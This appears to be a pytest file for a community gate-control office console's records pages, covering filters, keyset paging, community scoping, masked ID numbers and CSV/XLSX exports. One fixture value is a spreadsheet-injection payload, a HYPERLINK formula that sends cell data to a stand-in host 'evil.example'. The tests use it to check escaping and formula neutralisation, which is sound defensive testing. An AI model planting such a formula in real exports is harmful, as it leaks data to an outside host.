"""The Records pages (sync/office/console/records.py, sync/office/records.py) with TestClient:
the filters, keyset paging across pages, community scoping (a forged gate= too), the export's
contents against the filtered rows, formula-safety, masked numbers, bad filters in words."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from models import clock
from models.facts import RegistrationInput, close_fever_case, open_fever_case, record_registration
from models.kinds import PassKind
from models.outbox import append_fact
from models.passes import issue_pass, revoke_pass
from models.values import parse_temperature
from tests.console.conftest import add_accounts
from tests.console.helpers import logged_in
from tests.sync.conftest import BACKENDS, open_office
from tests.sync.helpers import OFFICE_BASE

ID_NUMBER = "11010519491231002X"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
ROW = re.compile(r"<tr><td data-label=.*?</tr>", re.S)
CELL = re.compile(r"<td[^>]*>(.*?)</td>", re.S)


def passages(store, specs) -> list[str]:
    """Passages as the desk writes them: (direction, verdict, reasons, unit) each, in one transaction."""
    ids = []
    with store.writer.begin() as conn:
        for direction, verdict, reasons, unit in specs:
            payload = {
                "direction": direction,
                "verdict": verdict,
                "reasons": json.dumps(reasons),
                "subject": "pass",
                "unit_code": unit,
                "pass_kind": 1,
                "temp_raw": "365",
                "temp_value": 36.5,
            }
            fact = append_fact(conn, "passage", payload, clock.now(), store.gate_state().versions)
            ids.append(fact.record_id)
    store.note_hlc(fact.hlc)
    return ids


def north_kiosk(handle, data_dir):
    """A kiosk of the other community (OfficeHandle.add_kiosk makes 幸福里社区's only)."""
    from models.store import KioskStore
    from sync.kiosk import SyncService, enroll
    from sync.office.enrol import add_checkpoint

    store = KioskStore.open(data_dir)
    store.set_up("北二门", "北苑社区")
    info = add_checkpoint(handle.engine, "北二门", "北苑社区")
    enroll(store, OFFICE_BASE, info["code"], client=handle.client)
    handle.kiosks.append(store)
    return store, SyncService(store, client=handle.client)


def kiosk_id(engine, name: str) -> str:
    from sqlalchemy import select

    from sync.office import tables as t

    with engine.connect() as conn:
        return conn.execute(select(t.kiosk.c.kiosk_id).where(t.kiosk.c.name == name)).scalar_one()


@pytest.fixture(scope="module", params=BACKENDS)
def records_office(request, tmp_path_factory):
    """卡口1 (幸福里社区) and 北二门 (北苑社区) have pushed passages, a registration, fever cases.
    One office per module and backend (the tests only read it, and exports add audit rows)."""
    tmp_path = tmp_path_factory.mktemp("records")
    for handle in open_office(tmp_path, request.param):
        add_accounts(handle.engine)
        yield _fill(handle, tmp_path)


def _fill(console_office, tmp_path):
    store, service = console_office.add_kiosk(tmp_path / "k1")
    passages(
        store,
        [
            ("out", "deny", ["quarantined"], "3-2-502"),
            ("in", "allow", [], "3-2-501"),
            ("in", "deny", ["revoked"], "3-2-501"),
            ("out", "allow", [], "3-2-501"),
        ],
    )
    record_registration(
        store,
        RegistrationInput("visitor", name=FORMULA, id_number=ID_NUMBER, phone="13912345678", to_unit="3-2-501"),
        parse_temperature("366"),
    )
    case = open_fever_case(store, "in", parse_temperature("385"), unit_code="3-2-501").record_id
    close_fever_case(store, case, "clinic", parse_temperature("384"))
    open_fever_case(store, "out", parse_temperature("381"), unit_code="5-1-101")
    issued = issue_pass(store, PassKind.RESIDENT, "3-2-501", name="张三", valid_days=30)
    revoke_pass(store, issued.body.pass_id_hex, "丢失")
    assert service.run_once().pushed == 10
    north, north_service = north_kiosk(console_office, tmp_path / "k2")
    passages(north, [("out", "deny", ["quarantined"], "9-9-909"), ("in", "allow", [], "9-9-901")])
    assert north_service.run_once().pushed == 2
    return console_office


def rows_of(html: str) -> list[list[str]]:
    section = html.split('<section id="records">', 1)[1]
    return [[c.strip() for c in CELL.findall(row)] for row in ROW.findall(section)]


def test_the_passages_table_filters_by_gate_direction_verdict_reason_and_unit(records_office):
    c, _ = logged_in(records_office.app, "张敏")
    everything = c.get("/records/passages")
    assert everything.status_code == 200
    rows = rows_of(everything.text)
    assert len(rows) == 6  # both communities' gates: a street account sees the street
    assert {r[1] for r in rows} == {"卡口1", "北二门"}
    # labels, not codes: 出 / 禁止 / 居家隔离...
    assert rows_of(c.get("/records/passages?unit=3-2-502").text)[0][2:4] == ["出", "禁止"]
    k1 = kiosk_id(records_office.engine, "卡口1")
    assert len(rows_of(c.get(f"/records/passages?gate={k1}").text)) == 4
    assert len(rows_of(c.get(f"/records/passages?gate={k1}&direction=in").text)) == 2
    assert len(rows_of(c.get(f"/records/passages?gate={k1}&verdict=deny").text)) == 2
    quarantined = rows_of(c.get("/records/passages?reason=quarantined").text)
    assert sorted(r[5] for r in quarantined) == ["3-2-502", "9-9-909"]
    assert "3-2-501" in {r[5] for r in rows_of(c.get("/records/passages?unit=3-2-501&verdict=allow").text)}
    assert len(rows_of(c.get("/records/passages?unit=3-2-501&verdict=allow").text)) == 2
    # a day range without the records: none of them
    assert rows_of(c.get("/records/passages?from=2020-01-01&to=2020-01-31").text) == []
    # the htmx request gets the results only (swapped in place), the address keeps the filters
    partial = c.get(f"/records/passages?gate={k1}", headers={"HX-Request": "true"})
    assert partial.text.lstrip().startswith('<section id="records">') and "<html" not in partial.text
    assert "export.csv?from=" in partial.text and f"gate={k1}" in partial.text


def test_registrations_show_masked_numbers_never_a_hash_or_a_sealed_copy(records_office):
    from sqlalchemy import select

    from sync.office import tables as t

    c, _ = logged_in(records_office.app, "张敏")
    page = c.get("/records/registrations?kind=visitor")
    [row] = rows_of(page.text)
    with records_office.engine.connect() as conn:
        payload = json.loads(conn.execute(select(t.record.c.payload).where(t.record.c.kind == "registration")).scalar())
    assert row[2] == "访客" and row[4] == payload["id_masked"] and ID_NUMBER not in page.text
    assert payload["id_hash"] not in page.text and payload["id_sealed"] not in page.text
    assert payload["phone_hash"] not in page.text and "13912345678" not in page.text
    # kiosk text is autoescaped: the formula's quotes and ampersand are text, not markup
    assert "&#34;http://evil.example/?x=&#34;&amp;A1" in page.text
    assert rows_of(c.get("/records/registrations?kind=courier").text) == []


def test_fever_cases_show_their_outcome_or_pending(records_office):
    c, _ = logged_in(records_office.app, "张敏")
    rows = rows_of(c.get("/records/fevers").text)
    assert sorted((r[3], r[5]) for r in rows) == [("3-2-501", "转发热门诊"), ("5-1-101", "待复测")]
    [pending] = rows_of(c.get("/records/fevers?kind=pending").text)
    assert pending[3] == "5-1-101" and pending[4] == "38.1"
    [clinic] = rows_of(c.get("/records/fevers?kind=clinic").text)
    assert clinic[3] == "3-2-501" and clinic[6] == "38.4"
    assert rows_of(c.get("/records/fevers?kind=home").text) == []


def test_passes_issued_and_revoked(records_office):
    c, _ = logged_in(records_office.app, "张敏")
    rows = rows_of(c.get("/records/passes").text)
    assert sorted(r[2] for r in rows) == ["作废", "签发"] and rows[0][3] == rows[1][3] and len(rows[0][3]) == 32
    [issued] = rows_of(c.get("/records/passes?kind=issued").text)
    assert issued[4] == "住户通行证" and issued[5] == "3-2-501" and issued[6] == "张三" and " ~ " in issued[7]
    [revoked] = rows_of(c.get("/records/passes?kind=revoked").text)
    assert revoked[8] == "丢失"
    assert len(rows_of(c.get("/records/passes?unit=3-2-501").text)) == 1  # a revocation names no unit


def test_ingest_keeps_the_unit_each_kind_names(records_office):
    from sqlalchemy import select

    from sync.office import tables as t

    with records_office.engine.connect() as conn:
        units = {
            (kind, unit)
            for kind, unit in conn.execute(select(t.record.c.kind, t.record.c.unit).where(t.record.c.unit.is_not(None)))
        }
    assert {("registration", "3-2-501"), ("fever_case", "5-1-101"), ("pass_issued", "3-2-501")} <= units
    assert ("passage", "3-2-502") in units and not any(kind in ("fever_outcome", "pass_revoked") for kind, _u in units)


def test_pages_follow_one_another_without_duplicates_or_gaps(console_office, tmp_path):
    store, service = console_office.add_kiosk(tmp_path / "k1")
    units = [f"{i:03d}" for i in range(123)]
    passages(store, [("in", "allow", [], u) for u in units])
    assert service.run_once().pushed == 123
    c, _ = logged_in(console_office.app, "王看")  # a viewer reads
    seen: list[str] = []
    address = "/records/passages"
    pages = 0
    while address:
        answer = c.get(address, headers={"HX-Request": "true"})
        assert answer.status_code == 200
        seen += [r[5] for r in rows_of(answer.text)]
        found = re.search(r'class="next" href="([^"]+)"', answer.text)
        address = found.group(1).replace("&amp;", "&") if found else ""
        pages += 1
    assert pages == 3 and len(seen) == 123 and sorted(seen) == units
    assert seen == units[::-1]  # newest first: the last written comes first


def test_a_community_account_sees_its_gates_only_even_with_a_forged_gate(records_office):
    c, _ = logged_in(records_office.app, "李社区")
    rows = rows_of(c.get("/records/passages").text)
    assert len(rows) == 4 and {r[1] for r in rows} == {"卡口1"}
    north = kiosk_id(records_office.engine, "北二门")
    forged = c.get(f"/records/passages?gate={north}")
    assert forged.status_code == 400 and "没有这个卡口" in forged.text
    assert "9-9-909" not in forged.text and "北二门" not in forged.text
    # the gate list offers its own gates only
    assert "东门卡口" in forged.text and "北门卡口" not in forged.text
    export = c.get("/records/passages/export.csv")
    assert export.status_code == 200
    body = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert len(body) == 1 + 4 and "9-9-909" not in export.text
    assert c.get(f"/records/passages/export.xlsx?gate={north}").status_code == 400
    # the other community's clerk: the other way round
    c2, _ = logged_in(records_office.app, "赵北")
    assert {r[5] for r in rows_of(c2.get("/records/passages").text)} == {"9-9-909", "9-9-901"}


def test_the_export_holds_exactly_the_filtered_rows_in_labels(records_office):
    from openpyxl import load_workbook

    c, _ = logged_in(records_office.app, "王看")  # a viewer exports too
    query = "unit=3-2-501"
    shown = rows_of(c.get(f"/records/passages?{query}").text)
    answer = c.get(f"/records/passages/export.csv?{query}")
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    head, *lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert head[:5] == ["时间", "卡口", "进出", "结果", "原因"]
    assert lines == shown and len(lines) == 3
    assert sorted(r[4] for r in lines) == ["", "", "通行证已作废"]
    xlsx = c.get(f"/records/passages/export.xlsx?{query}&lang=en")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    assert values[0][:4] == ["Time", "Gate", "In/out", "Verdict"]
    assert sorted(r[2] for r in values[1:]) == ["in", "in", "out"] and len(values) == 4
    assert sheet.column_dimensions["A"].width >= 19 and sheet.column_dimensions["E"].width >= 20
    # the export is an audit record: who took which records, how many
    from sync.office.audit import recent

    [entry] = recent(records_office.engine, action="records_export", limit=5)[:1]
    assert entry["admin"] == "console:王看" and entry["detail"]["rows"] == 3


def test_kiosk_text_in_an_export_never_becomes_a_formula(records_office):
    from openpyxl import load_workbook

    c, _ = logged_in(records_office.app, "张敏")
    answer = c.get("/records/registrations/export.csv")
    [_head, row] = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert row[3] == "'" + FORMULA
    sheet = load_workbook(io.BytesIO(c.get("/records/registrations/export.xlsx").content)).active
    name = sheet.cell(row=2, column=4)
    assert name.value == FORMULA and name.data_type == "s" and name.quotePrefix


def test_bad_filters_get_words_not_a_500(records_office):
    c, _ = logged_in(records_office.app, "张敏")
    for query, words in (
        ("from=2026-13-45", "这个不是日期"),
        ("from=2026-03-10&to=2026-03-01", "在结束日期 2026-03-01 之后"),
        ("from=0001-01-01", "日期应在 2000 年到 2200 年之间"),
        ("to=9999-12-31", "日期应在 2000 年到 2200 年之间"),
        ("gate=no-such-gate", "没有这个卡口"),
        ("direction=sideways", "应为 进 或 出"),
        ("after=not-a-cursor", "翻页位置无效"),
        ("unit=" + "9" * 300, "太长"),
    ):
        answer = c.get(f"/records/passages?{query}")
        assert answer.status_code == 400, query
        assert words in answer.text and rows_of(answer.text) == [], query
        assert c.get(f"/records/passages/export.csv?{query.replace('after=not-a-cursor', 'to=x')}").status_code == 400
    english = c.get("/records/passages?from=2026-13-45&lang=en")
    assert "is not one: 2026-13-45" in english.text
    assert c.get("/records/nothing").status_code == 404
    assert c.get("/records/passages/export.pdf").status_code == 404


def test_an_export_over_the_cap_is_refused_with_the_cap_in_words(records_office, monkeypatch):
    from sync.office import records

    monkeypatch.setattr(records, "EXPORT_CAP", 3)
    c, _ = logged_in(records_office.app, "张敏")
    answer = c.get("/records/passages/export.csv")
    assert answer.status_code == 413 and "超过 3 条" in answer.text
    assert c.get("/records/passages/export.csv?unit=3-2-501").status_code == 200  # exactly three: given


def test_the_pages_need_a_login(records_office):
    from tests.console.helpers import client

    c = client(records_office.app)
    for path in ("/records", "/records/passages", "/records/passages/export.csv"):
        answer = c.get(path)
        assert answer.status_code == 303 and answer.headers["location"].startswith("/login")


def test_a_page_deep_in_the_records_reads_no_more_than_the_first(tmp_path):
    """Keyset paging: the page after 2,900 rows costs what the first page costs. Counted in SQLite
    virtual-machine steps (its progress handler), not in time: reading the rows before the page
    (an OFFSET, or an index range bounded by the day's end) makes the deep page many times dearer."""
    import time as time_

    from sync.office import records as rec
    from sync.office import tables as t
    from sync.office.db import open_office_engine
    from sync.office.enrol import add_checkpoint
    from sync.office.users import Account

    engine = open_office_engine(tmp_path / "office")
    try:
        kid = add_checkpoint(engine, "东门卡口", "幸福里社区")["kiosk_id"]
        now = time_.time()
        rows = [
            {
                "record_id": f"00000000-0000-7000-8000-{i:012d}",
                "kiosk_id": kid,
                "epoch": 1,
                "seq": i + 1,
                "kind": "passage",
                "payload": "{}",
                "payload_hash": "0" * 64,
                "device_time": now - 3000 + i,
                "corrected_time": now - 3000 + i,
                "received_at": now,
                "time_quality": "anchored",
                "day": "",
                "hlc": i,
                "boot_id": "b",
                "mono_ns": 0,
                "direction": "in",
                "verdict": "allow",
                "reasons": "[]",
            }
            for i in range(3000)
        ]
        with engine.begin() as conn:
            conn.execute(t.record.insert(), rows)
        account = Account("s", "street")
        with engine.connect() as conn:
            gates = rec.gates_seen(conn, account)
        f, errors = rec.parse_filters("passages", {}, gates)
        assert not errors

        def steps(after):
            counted = [0]

            def tick():
                counted[0] += 1
                return 0

            with engine.connect() as conn:
                conn.connection.driver_connection.set_progress_handler(tick, 10)
                got = rec.fetch(conn, f, account, gates, after=after)
                conn.connection.driver_connection.set_progress_handler(None, 10)
            return counted[0], got

        first, page1 = steps(None)
        deep, page_deep = steps(rec.Cursor(rows[100]["corrected_time"], rows[100]["record_id"]))
        ids = [r["record_id"] for r in rows]
        assert [r["record_id"] for r in page1] == ids[:-51:-1]
        assert [r["record_id"] for r in page_deep] == ids[99:49:-1]
        assert deep <= 2 * first, (first, deep)
    finally:
        engine.dispose()


def test_filters_and_cursors_come_back_from_their_own_query_string():
    import datetime as dt

    from sync.office import records as rec

    gates = {"k-1": ("东门卡口", "幸福里社区")}
    params = {"from": "2026-03-01", "to": "2026-03-07", "gate": "k-1", "direction": "out", "verdict": "deny"}
    f, errors = rec.parse_filters("passages", {**params, "reason": "quarantined", "unit": " 3-2-501 "}, gates)
    assert errors == [] and f.day_from == dt.date(2026, 3, 1) and f.unit == "3-2-501"
    assert rec.parse_filters("passages", f.query(), gates) == (f, [])  # a bookmark gives the same filters
    # a filter the table has no column for is not applied (the form never sends it)
    g, errors = rec.parse_filters("registrations", {"verdict": "deny", "kind": "courier"}, gates)
    assert errors == [] and g.verdict is None and g.kind == "courier"
    _, errors = rec.parse_filters("passes", {"kind": "courier"}, gates)
    assert [e.code for e in errors] == ["filter"]
    # the default: the last week up to today
    d, _ = rec.parse_filters("fevers", {}, gates, today=dt.date(2026, 3, 15))
    assert (d.day_from, d.day_to) == (dt.date(2026, 3, 9), dt.date(2026, 3, 15))
    cursor = rec.Cursor(1772000000.123456789, "0190a1b2-0000-7000-8000-000000000001")
    assert rec.parse_cursor(cursor.text()) == cursor  # the exact float: no row skipped or repeated
    for bad in ("nan_0190", "inf_ab", "1e999_ab", "1.5_not hex"):
        with pytest.raises(Exception, match="翻页位置无效"):
            rec.parse_cursor(bad)


def kinded_passages(store, kinds) -> None:
    """Allowed passages in, one per pass kind given (a PassKind), in one transaction."""
    with store.writer.begin() as conn:
        for i, kind in enumerate(kinds):
            payload = {
                "direction": "in",
                "verdict": "allow",
                "reasons": "[]",
                "subject": "pass",
                "unit_code": f"{kind.code}-{i:03d}",
                "pass_kind": int(kind),
            }
            fact = append_fact(conn, "passage", payload, clock.now(), store.gate_state().versions)
    store.note_hlc(fact.hlc)


def test_passages_filter_by_pass_kind_across_pages_and_in_the_export(console_office, tmp_path):
    store, service = console_office.add_kiosk(tmp_path / "k1")
    kinds = [PassKind.VEHICLE] * 53 + [PassKind.RESIDENT] * 30 + [PassKind.VISITOR] * 2
    kinded_passages(store, kinds)
    assert service.run_once().pushed == len(kinds)
    c, _ = logged_in(console_office.app, "张敏")
    page = c.get("/records/passages")
    # the choices are the kinds' own names (models/kinds.py), in a select named pass_kind
    assert '<select name="pass_kind">' in page.text
    for kind in PassKind:
        assert f'<option value="{kind.code}" >{kind.label("zh")}</option>' in page.text
    seen: list[list[str]] = []
    address = "/records/passages?pass_kind=vehicle"
    while address:
        answer = c.get(address, headers={"HX-Request": "true"})
        assert answer.status_code == 200
        seen += rows_of(answer.text)
        found = re.search(r'class="next" href="([^"]+)"', answer.text)
        address = found.group(1).replace("&amp;", "&") if found else ""
        assert not found or "pass_kind=vehicle" in address  # the next page keeps the filter
    assert len(seen) == 53 and {r[5].split("-")[0] for r in seen} == {"vehicle"}
    assert {r[6] for r in seen} == {PassKind.VEHICLE.label("zh")}
    [*visitors] = rows_of(c.get("/records/passages?pass_kind=visitor&direction=in").text)
    assert sorted(r[5] for r in visitors) == ["visitor-083", "visitor-084"]
    export = c.get("/records/passages/export.csv?pass_kind=visitor&lang=en")
    body = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    column = body[0].index("Pass kind")
    assert [line[column] for line in body[1:]] == [PassKind.VISITOR.label("en")] * 2
    bad = c.get("/records/passages?pass_kind=tank")
    assert bad.status_code == 400 and "不是一种通行证" in bad.text and rows_of(bad.text) == []


def test_a_page_of_a_rare_pass_kind_reads_no_more_than_a_page_of_all(tmp_path):
    """The pass-kind filter pages by its own index (migration 0027): a page of the 50 vehicle
    passages under 3,000 newer resident ones costs what the first page of all passages costs.
    Counted in SQLite virtual-machine steps, not in time."""
    import time as time_

    from sync.office import records as rec
    from sync.office import tables as t
    from sync.office.db import open_office_engine
    from sync.office.enrol import add_checkpoint
    from sync.office.users import Account

    engine = open_office_engine(tmp_path / "office")
    try:
        kid = add_checkpoint(engine, "东门卡口", "幸福里社区")["kiosk_id"]
        now = time_.time()
        rows = [
            {
                "record_id": f"00000000-0000-7000-8000-{i:012d}",
                "kiosk_id": kid,
                "epoch": 1,
                "seq": i + 1,
                "kind": "passage",
                "payload": "{}",
                "payload_hash": "0" * 64,
                "device_time": now - 4000 + i,
                "corrected_time": now - 4000 + i,
                "received_at": now,
                "time_quality": "anchored",
                "day": "",
                "hlc": i,
                "boot_id": "b",
                "mono_ns": 0,
                "direction": "in",
                "verdict": "allow",
                "reasons": "[]",
                "pass_kind": int(PassKind.VEHICLE if i < 60 else PassKind.RESIDENT),
            }
            for i in range(3060)
        ]
        with engine.begin() as conn:
            conn.execute(t.record.insert(), rows)
        account = Account("s", "street")
        with engine.connect() as conn:
            gates = rec.gates_seen(conn, account)

        def steps(params):
            f, errors = rec.parse_filters("passages", params, gates)
            assert not errors
            counted = [0]

            def tick():
                counted[0] += 1
                return 0

            with engine.connect() as conn:
                conn.connection.driver_connection.set_progress_handler(tick, 10)
                got = rec.fetch(conn, f, account, gates)
                conn.connection.driver_connection.set_progress_handler(None, 10)
            return counted[0], got

        everything, _ = steps({})
        vehicles, page = steps({"pass_kind": "vehicle"})
        assert [r["record_id"] for r in page] == [r["record_id"] for r in rows[59:9:-1]]
        assert vehicles <= 2 * everything, (everything, vehicles)
    finally:
        engine.dispose()
